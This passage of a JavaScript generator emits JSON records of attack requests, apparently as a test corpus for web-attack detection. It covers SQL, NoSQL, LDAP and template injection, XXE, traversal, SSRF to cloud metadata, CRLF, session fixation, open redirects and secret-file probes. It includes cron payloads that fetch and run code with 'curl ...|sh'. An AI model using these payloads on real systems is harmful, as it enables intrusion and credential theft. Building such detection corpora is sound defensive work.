  q(c, '/products', [['id', '1.e1union/**/distinct(select(group_concat(schema_name))from(information_schema.schemata))']]);
  q(c, '/products', [['sort', '`price`,(select 1 from dual where sleep(5))']]);
  json(c, '/api/contacts/search', { first: "x'/*", last: "*/OR 1=1-- " });
  hdr(c, '/cart', { Cookie: `cart=${b64('7 AND SLEEP(5)')}; currency=EUR` });
  json(c, '/api/items', { id: "1 OR JSON_EXTRACT('{\"a\":1}','$.a')=1" });
  q(c, '/products', [['id', '5 AND 1=(SELECT 1 FROM PG_SLEEP(5))']]);
  q(c, '/products', [['order', 'IF(1=1,1,(SELECT 1 UNION SELECT 2))']]);
  xml(c, '/ws/inventory', '<?xml version="1.0"?><query><sku>1 &#x55;NION &#x53;ELECT password FROM users</sku></query>');
  gql(c, 'query L($o: String) { products(orderBy: $o) { id } }', { o: 'name) ; SELECT pg_sleep(10) --' });
  hdr(c, '/blog/post/7', { Referer: "https://portal.example.test/?q=' AND extractvalue(1,concat(0x5c,version()))-- -" });
  q(c, '/api/list', [['limit', '1,(select if(1=1,sleep(5),1))']]);
  gz(c, '/api/v1/sync', JSON.stringify({ since: "2024-01-01' AND (SELECT 7 FROM (SELECT(SLEEP(5)))a)-- -", device: 'ios' }), 'application/json');
  form(c, '/api/filter', [['where[price][0]', '10'], ['where[price][1]', "20) OR 1=1#"]]);
}

// ---------------------------------------------------------------- NoSQL injection
{
  const c = 'nosql';
  form(c, '/login', [['user[$regex]', '^adm'], ['pass[$gt]', '']]);
  json(c, '/api/auth/login', { username: 'admin', password: { $gt: '' } });
  json(c, '/api/search', { filter: { $where: 'sleep(5000)||true' } });
  q(c, '/api/products', [['filter', '{"price":{"$where":"this.constructor.constructor(\'return process\')()"}}']]);
  json(c, '/api/users/find', { query: { $expr: { $function: { body: 'function(){return true}', args: [], lang: 'js' } } } });
  json(c, '/api/reports/aggregate', { pipeline: [{ $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'u' } }, { $project: { 'u.password': 1 } }] });
  push(c, 'POST', '/login', '', 'username=admin&password%5B%24ne%5D=1', { ctype: 'application/x-www-form-urlencoded' });
  json(c, '/api/auth/login', '{"username":"admin","password":{"\\u0024ne":null}}');
  json(c, '/products/_search', { script_fields: { x: { script: 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id")' } } });
  q(c, '/api/users', [['name', "a';return true;var d='"]]);
  json(c, '/api/auth/login', { username: { $in: ['admin', 'root'] }, password: { $nin: [''] } });
  gql(c, 'query U($f: JSON) { users(filter: $f) { email } }', { f: { email: { $regex: '.*' }, role: { $ne: 'user' } } });
}

// ---------------------------------------------------------------- LDAP and XPath injection
{
  const c = 'ldap-xpath';
  form(c, '/login', [['user', '*)(uid=*))(|(uid=*'], ['pass', 'x']]);
  form(c, '/login', [['user', 'admin)(&)'], ['pass', 'anything']]);
  q(c, '/directory/search', [['name', ['%2A%29%28%7C%28objectClass%3D%2A%29']]]);
  json(c, '/api/directory/lookup', { cn: '*)(userPassword=*' });
  form(c, '/login', [['user', 'admin*)(userPassword=a*'], ['pass', 'x']]);
  q(c, '/directory/search', [['q', '*)(memberOf=cn=admins,ou=groups,dc=corp,dc=example']]);
  form(c, '/login', [['user', "x' or string-length(name(/*[1]))=5 and '1'='1"], ['pass', 'x']]);
  q(c, '/api/catalog', [['category', "']|//*|//*['"]]);
  xml(c, '/ws/auth', '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Login><username>admin\' or 1=1 or \'\'=\'</username><password>x</password></Login></soap:Body></soap:Envelope>', { ctype: 'text/xml' });
  q(c, '/api/catalog', [['category', "books' and substring(//user[1]/password,1,1)='a"]]);
  form(c, '/api/xquery', [['title', "x')]/doc('http://203.0.113.95/'||//user[1]/password)['"]]);
  hdr(c, '/intranet/profile', { 'X-Remote-User': 'jdoe)(|(objectClass=*' });
}

// ---------------------------------------------------------------- server-side template injection
{
  const c = 'ssti';
  form(c, '/contact/preview', [['message', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"]]);
  q(c, '/greet', [['name', "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"]]);
  json(c, '/api/emails/templates', { body: '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__[\'__import__\'](\'os\').popen("id").read()}}{% endif %}{% endfor %}' });
  form(c, '/newsletter/preview', [['tpl', "{{['id']|filter('system')}}"]]);
  q(c, '/profile', [['bio', '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}']]);
  json(c, '/api/cms/blocks', { block: { html: '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}' } });
  form(c, '/admin/mail/template', [['body', '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")']]);
  q(c, '/shop/item', [['title', "{if system('id')}{/if}"]]);
  form(c, '/rails/preview', [['content', '<%= `id` %>']]);
  json(c, '/api/render', { template: '{{#with (lookup this "constructor") as |c|}}{{#with (c.constructor "return process.mainModule.require(\'child_process\').execSync(\'id\')") as |f|}}{{f}}{{/with}}{{/with}}' });
  json(c, '/api/render', { template: "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}" });
  form(c, '/report/title', [['t', '${self.module.cache.util.os.system("id")}']]);
  q(c, '/greet', [['name', '{{()|attr(request.args.c)|attr(request.args.b)|attr(request.args.s)()}}'], ['c', '__class__'], ['b', '__base__'], ['s', '__subclasses__']]);
  json(c, '/api/cshtml/preview', { view: '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")' });
  xml(c, '/api/reports/template', `<?xml version="1.0"?><report><header>${ent("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")}</header></report>`);
  q(c, '/greet', [['name', ['%7B%25%20import%20os%20%25%7D%7B%7B%20os.popen(%22id%22).read()%20%7D%7D']]]);
}

// ---------------------------------------------------------------- XXE and XInclude
{
  const c = 'xxe';
  xml(c, '/api/orders/import', '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>');
  xml(c, '/api/feeds/import', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://203.0.113.96/x.dtd"> %d;]><r/>');
  mp(c, '/upload/logo', [{ name: 'logo', filename: 'logo.svg', type: 'image/svg+xml', content: '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="20">&h;</text></svg>' }]);
  mp(c, '/upload/document', [{ name: 'doc', filename: 'cv.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', content: zip([['[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'], ['word/document.xml', '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "http://203.0.113.97/docx">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>']]) }]);
  xml(c, '/api/orders/import', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/shadow">]><o>&x;</o>', 'utf16le')]));
  xml(c, '/soap/Orders', '<?xml version="1.0"?><!DOCTYPE e [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><get><id>&s;</id></get></soapenv:Body></soapenv:Envelope>', { ctype: 'text/xml' });
  form(c, '/api/products/describe', [['desc', '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>']]);
  push(c, 'POST', '/api/v1/users', '', '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY e SYSTEM "file:///proc/self/environ">]><user><name>&e;</name></user>', { ctype: 'text/xml' });
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE r PUBLIC "-//X//Y" "http://203.0.113.98/p.dtd"><r>1</r>');
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lollollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]><l>&e;</l>');
  form(c, '/saml/acs', [['SAMLResponse', b64('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://203.0.113.99/saml">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&x;</saml:Issuer></samlp:Response>')], ['RelayState', '/home']]);
  gz(c, '/api/rss/ingest', '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "expect://id">]><rss version="2.0"><channel><title>&x;</title></channel></rss>', 'application/rss+xml');
}

// ---------------------------------------------------------------- path traversal and local file inclusion
{
  const c = 'traversal';
  q(c, '/download', [['file', '....//....//....//etc/passwd']]);
  q(c, '/download', [['file', ['..%252f..%252f..%252fetc%252fpasswd']]]);
  q(c, '/download', [['file', ['%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd']]]);
  get(c, '/static/..%5c..%5c..%5cwindows%5cwin.ini');
  q(c, '/report', [['template', '..\\..\\..\\..\\boot.ini']]);
  get(c, '/app/..;/..;/WEB-INF/web.xml');
  mp(c, '/api/files/upload', [{ name: 'file', filename: '../../../../var/www/html/s.php', type: 'text/plain', content: 'hello' }]);
  json(c, '/api/tickets/7/attachments', { attachment: { path: '/proc/self/environ', name: 'log.txt' } });
  q(c, '/help', [['lang', '../../../../../../proc/self/cwd/config/database.yml']]);
  q(c, '/download', [['file', ['%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd']]]);
  q(c, '/download', [['file', '../../../../etc/passwd\u0000.jpg']]);
  get(c, '/api/v1/files/..%2F..%2F..%2Fetc%2Fhosts/download');
  q(c, '/docs/view', [['doc', ['%252e%252e%255c%252e%252e%255cweb.config']]]);
  q(c, '/download', [['path', 'C:/Windows/System32/drivers/etc/hosts']]);
  mp(c, '/api/plugins/install', [{ name: 'plugin', filename: 'theme.zip', type: 'application/zip', content: zip([['theme/style.css', 'body{}'], ['../../../../etc/cron.d/x', '* * * * * root curl 203.0.113.100|sh\n']]) }]);
  q(c, '/download', [['file', '．．/．．/．．/etc/passwd']]);
  gql(c, 'query F($p: String!) { file(path: $p) { content } }', { p: '../../../../../../root/.ssh/id_rsa' });
}

// ---------------------------------------------------------------- session fixation and cookie injection
{
  const c = 'session';
  get(c, '/shop/cart;jsessionid=0A1B2C3D4E5F60718293A4B5C6D7E8F9');
  q(c, '/index.php', [['PHPSESSID', 'attackerchosen123']]);
  get(c, '/(S(attackerfixedsession1))/default.aspx');
  form(c, '/comments', [['text', '<meta http-equiv="Set-Cookie" content="SESSID=fixed0001; path=/">']]);
  hdr(c, '/account', { Cookie: 'lang=en"; sessionid=attackerfixed42; x="' });
  q(c, '/settings/currency', [['currency', ['USD%253B%2520PHPSESSID%253Dfixme0001']]]);
  json(c, '/api/profile', { bio: "<svg onload=document.cookie='JSESSIONID=FIX1234;path=/;domain=.example.test'>" });
  form(c, '/login.php', [['username', 'victim'], ['password', 'Winter2024!'], ['PHPSESSID', 'deadbeefdeadbeef01']]);
  q(c, '/users/sign_in', [['_session_id', '4f2a0c0ffee0badc0ffee0badc0ffee0']]);
  q(c, '/accounts/login/', [['sessionid', 'abcdefghijklmnopqrstuvwxyz012345']]);
  hdr(c, '/admin', { Cookie: '%5F_Host-session=attacker-tossed; theme=dark' });
  hdr(c, '/account', { Cookie: '$Version=1; session="attacker"; $Path="/"; $Domain=".example.test"' });
  q(c, '/login', [['next', '/dashboard?PHPSESSID=attacker01']]);
  q(c, '/prefs', [['name', 'alice; role=admin']]);
  form(c, '/profile/update', [['display', '<script>document.cookie="sessionid=ownedbyattacker; domain=.example.test; path=/"</script>']]);
  mp(c, '/upload/page', [{ name: 'page', filename: 'welcome.html', type: 'text/html', content: '<html><head><meta http-equiv="set-cookie" content="JSESSIONID=ATTACKERSESSION0042; Path=/; Domain=example.test"></head></html>' }]);
  form(c, '/feedback', [['msg', '&lt;script&gt;document.cookie=&quot;PHPSESSID=fixed77;path=/&quot;&lt;/script&gt;']]);
  q(c, '/sso/login', [['SAMLart', 'x'], ['JSESSIONID', 'FIXEDFIXEDFIXEDFIXED0001']]);
  hdr(c, '/login', { Cookie: 'sessionid=fixed; Max-Age=31536000; Domain=example.test; csrftoken=a' });
  q(c, '/lang', [['l', ['de%0d%0aSet-Cookie:%20laravel_session%3Dattacker%3B%20Path%3D%2F']]]);
}

// ---------------------------------------------------------------- CRLF, header and log injection
{
  const c = 'crlf';
  q(c, '/r', [['url', ['%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=1']]]);
  get(c, '/en%0DSet-Cookie:%20x=1');
  json(c, '/api/webhooks', { url: 'https://hooks.example.org/a', headers: { 'X-Sig': 'v\r\nHost: internal.admin' } });
  q(c, '/export', [['name', ['report.pdf%22%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E']]]);
  form(c, '/contact', [['email', 'a@b.example\r\nRCPT TO:<all@evil.example.net>\r\nDATA\r\nSubject: hi\r\n.\r\n']]);
  form(c, '/login', [['username', 'admin\n[2024-12-07 10:00:00] INFO User admin logged in successfully from 10.0.0.1'], ['password', 'x']]);
  q(c, '/r', [['u', ['/home%0d%0a%09Set-Cookie:%20a=b']]]);
  get(c, '/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3Epwn%3C/html%3E');
  xml(c, '/ws/mail', '<?xml version="1.0"?><mail><to>ops@example.org</to><subject>Hi&#13;&#10;Bcc: leak@evil.example.net</subject></mail>');
  form(c, '/share', [['subject', 'Hi\r\nBcc: a@evil.example.net'], ['to', 'friend@example.org']]);
  q(c, '/track', [['ref', ['x%250AX-Forwarded-For:%25201.2.3.4']]]);
  form(c, '/api/cache/get', [['key', 'foo\r\nset injected 0 3600 5\r\nadmin\r\n']]);
  json(c, '/api/redirects', '{"to":"/home\\u000d\\u000aLocation: https://evil.example.net"}');
  hdr(c, '/download', { Referer: 'https://portal.example.test/%0d%0aSet-Cookie:%20sid=evil' });
}

// ---------------------------------------------------------------- SSRF: address notations, metadata and internal services, schemes
{
  const c = 'ssrf';
  json(c, '/api/webhooks', { url: 'http://2852039166/latest/meta-data/iam/security-credentials/' });
  q(c, '/proxy/image', [['src', 'http://0251.0376.0251.0376/latest/meta-data/']]);
  form(c, '/profile/avatar', [['avatar_url', 'http://0xA9FEA9FE/latest/user-data']]);
  json(c, '/api/link-preview', { url: 'http://[fd00:ec2::254]/latest/meta-data/' });
  q(c, '/proxy/image', [['src', 'http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/']]);
  json(c, '/api/import/url', { source: 'http://169.254.169.254.nip.io/latest/meta-data/' });
  form(c, '/integrations/test', [['endpoint', 'http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token']]);
  q(c, '/proxy/fetch', [['u', 'http://100.100.100.200/latest/meta-data/ram/security-credentials/']]);
  json(c, '/api/webhooks', { target: { url: 'http://169.254.170.2/v2/credentials/3f1c0b3e-8a9d-4c2e-9f5a-1b2c3d4e5f60' } });
  q(c, '/proxy/fetch', [['u', 'http://127.1:8080/manager/html']]);
  form(c, '/api/fetch', [['url', 'http://0.0.0.0:6379/']]);
  json(c, '/api/link-preview', { url: 'http://127.0.0.1.nip.io:8500/v1/kv/?recurse' });
  q(c, '/proxy/fetch', [['u', 'http://[::]:9200/_cat/indices']]);
  json(c, '/api/webhooks', { url: 'http://portal.example.test@169.254.169.254/latest/meta-data/' });
  q(c, '/proxy/fetch', [['u', 'http://169.254.169.254\\@portal.example.test/latest/meta-data/']]);
  form(c, '/api/fetch', [['url', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A*/1 * * * * curl 203.0.113.9|sh%0A%0A%0D%0A']]);
  json(c, '/api/webhooks', { url: 'dict://127.0.0.1:11211/stats' });
  json(c, '/api/webhooks', { url: 'file:///proc/self/environ' });
  q(c, '/proxy/image', [['src', 'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/']]);
  json(c, '/api/link-preview', { url: 'http://7f000001.c0a80001.rbndr.us:8080/admin' });
  json(c, '/api/pdf', { html: '<html><head><link rel="stylesheet" href="http://169.254.169.254/latest/meta-data/iam/security-credentials/"></head><body>Invoice</body></html>' });
  hdr(c, '/', { Forwarded: 'for=203.0.113.5;host=metadata.google.internal;proto=http' });
  form(c, '/api/fetch', [['url', 'https://kubernetes.default/api/v1/namespaces/kube-system/secrets']]);
  json(c, '/api/registry/mirror', { upstream: 'http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/json' });
  gql(c, 'mutation W($u: String!) { createWebhook(url: $u) { id } }', { u: 'http://consul.service.consul:8500/v1/kv/?recurse' });
  get(c, `/img/insecure/rs:fit:300:300/${b64url('http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/')}.png`);
  q(c, '/proxy/fetch', [['u', 'http://[0000::1]:2375/containers/json']]);
  q(c, '/proxy/image', [['src', ['http%3A%2F%2F%2531%2536%2539%252e%2532%2535%2534%252e%2531%2536%2539%252e%2532%2535%2534%2Flatest%2Fmeta-data%2F']]]);
  json(c, '/api/webhooks', { url: 'http://203.0.113.99/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F' });
  gql(c, 'mutation I($u: String!) { importFrom(url: $u) { ok } }', { u: 'http://0177.0.0.1:5984/_all_dbs' });
  form(c, '/admin/settings/ldap', [['server', 'ldap://127.0.0.1:389/dc=corp'], ['bind', 'cn=admin']]);
  json(c, '/api/webhooks', { url: 'http://instance-data/latest/meta-data/' });
  q(c, '/proxy/fetch', [['u', 'http://localhost:8080/actuator/env']]);
  form(c, '/api/fetch', [['url', 'http://[fe80::1%25eth0]:10250/pods']]);
  json(c, '/api/oembed', { url: 'http://0xa9.0xfe.0xa9.0xfe/computeMetadata/v1/' });
}

// ---------------------------------------------------------------- open redirects as exploits write them
{
  const c = 'redirect';
  q(c, '/login', [['next', '//evil.example.net']]);
  q(c, '/login', [['next', '/\\evil.example.net']]);
  q(c, '/login', [['next', 'http:evil.example.net']]);
  q(c, '/auth/callback', [['returnTo', 'https://portal.example.test.evil.example.net/']]);
  q(c, '/logout', [['redirect', 'https://evil.example.net/portal.example.test']]);
  q(c, '/logout', [['redirect', 'https://evil.example.net#portal.example.test']]);
  q(c, '/login', [['next', ['%5C%5Cevil.example.net']]]);
  q(c, '/login', [['next', ['/%2F/evil.example.net']]]);
  q(c, '/login', [['next', '///evil.example.net/%2F..']]);
  q(c, '/go', [['url', '//0xCB007109/']]);
  q(c, '/login', [['next', '&#x6A;avascript:alert(document.domain)']]);
  q(c, '/go', [['url', 'data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+']]);
  q(c, '/go', [['url', '//evil。example。net']]);
  q(c, '/oauth/authorize', [['client_id', 'portal'], ['response_type', 'code'], ['redirect_uri', 'https://portal.example.test.evil.example.net/callback']]);
  q(c, '/oauth/authorize', [['client_id', 'portal'], ['response_type', 'token'], ['redirect_uri', 'https://portal.example.test/oauth/callback/..%2f..%2fredirect%3Furl%3Dhttps%3A%2F%2Fevil.example.net']]);
  json(c, '/api/auth/login', '{"email":"a@example.org","password":"x","returnUrl":"\\/\\/evil.example.net"}');
  q(c, '/auth/callback', [['code', 'abc'], ['state', b64('{"returnTo":"https://evil.example.net/steal","nonce":"n1"}')]]);
  get(c, '/%2f%2fevil.example.net/');
  q(c, '/wp-login.php', [['redirect_to', 'https://evil.example.net/wp-admin/']]);
  q(c, '/login', [['next', '\\/\\/evil.example.net']]);
  q(c, '/login', [['next', ['/%09/evil.example.net']]]);
  q(c, '/login', [['next', 'https://evil.example.net\\.portal.example.test']]);
  form(c, '/account/view', [['view', 'redirect:https://evil.example.net']]);
  q(c, '/notice', [['msg', '<meta http-equiv="refresh" content="0;url=https://evil.example.net">']]);
  q(c, '/Account/Login', [['ReturnUrl', ['%2F%2F%5Cevil.example.net']]]);
  q(c, '/login', [['returnUrl', 'https:/\\evil.example.net']]);
  q(c, '/sso', [['target', ['%2568%2574%2574%2570%2573%253a%252f%252fevil.example.net']]]);
  q(c, '/login', [['continue', 'HtTpS://EvIl.ExAmPlE.nEt/%2e%2e']]);
  get(c, '/redirect', 'url=https%3A%2F%2Fevil.example.net%3F&url=%2Fhome');
  json(c, '/api/v1/session', { next: '\u0068ttps:\\\\evil.example.net' });
  json(c, '/api/auth/refresh', `{"token":"r1","next":"${uEsc('//evil.example.net/')}"}`);
  q(c, '/login', [['next', [pctAll('//evil.example.net/')]]]);
}

// ---------------------------------------------------------------- sensitive-file probes
{
  const c = 'files';
  for (const p of [
    '/.git/index', '/.gitlab-ci.yml', '/.circleci/config.yml', '/.vscode/sftp.json', '/sftp-config.json', '/.ftpconfig',
    '/.DS_Store', '/.bash_history', '/.ssh/authorized_keys', '/id_rsa', '/.docker/config.json', '/.kube/config', '/.npmrc',
    '/terraform.tfstate', '/.env.production', '/config.php.bak', '/.config.php.swp', '/backup.zip', '/dump.sql.gz',
    '/db.sqlite3', '/storage/logs/laravel.log', '/wp-content/debug.log', '/info.php', '/server-status', '/actuator/heapdump',
    '/app/etc/env.php', '/sites/default/settings.php.bak', '/config/database.yml', '/.svn/wc.db', '/.bzr/branch/branch.conf',
    '/service-account.json', '/.mysql_history', '/privkey.pem', '/web.config::$DATA', '/.%67it/config', '/.git/./HEAD',
    '//.env', '/%2e%6e%70%6d%72%63', '/index.php/.env', '/..;/.git/config', '/.Env.Local', '/phpunit.xml', '/.idea/workspace.xml',
  ]) get(c, p);
  hdr(c, '/', { 'X-Original-URL': '/.git/config' });
  get(c, `/${pctAll('.git/HEAD')}`);
  q(c, '/download', [['file', 'config/secrets.yml']]);
  q(c, '/static/get', [['name', '.aws/credentials']]);
}

process.stdout.write(records.map((r) => JSON.stringify(r)).join('\n') + '\n');
